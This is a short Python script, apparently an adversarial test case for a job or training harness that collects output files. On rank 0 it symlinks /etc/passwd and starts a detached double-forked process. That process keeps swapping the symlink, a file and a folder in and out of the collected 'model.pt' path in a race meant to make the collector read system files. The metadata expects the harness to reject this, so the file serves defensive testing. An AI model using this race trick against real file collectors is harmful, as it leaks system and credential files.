# /// attack
# row = "19"
# aim = "Swap results for links while they are collected, from a process that outlives its rank."
# runtimes = ["process", "docker"]
# verdicts = ["rejected"]
# must_not_print = ["root:x"]
# ///
import os

out = os.environ["OUTPUT_DIR"]
if os.environ["RANK"] == "0":
    os.chdir(out)
    with open("plain", "wb") as file:
        file.write(b"x" * 4096)
    os.symlink("/etc/passwd", "link")
    os.mkdir("folder")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                for source in ("plain", "link", "folder"):
                    try:
                        os.rename(source, "model.pt")
                        os.rename("model.pt", source)
                    except OSError:
                        pass
        os._exit(0)
    os.wait()
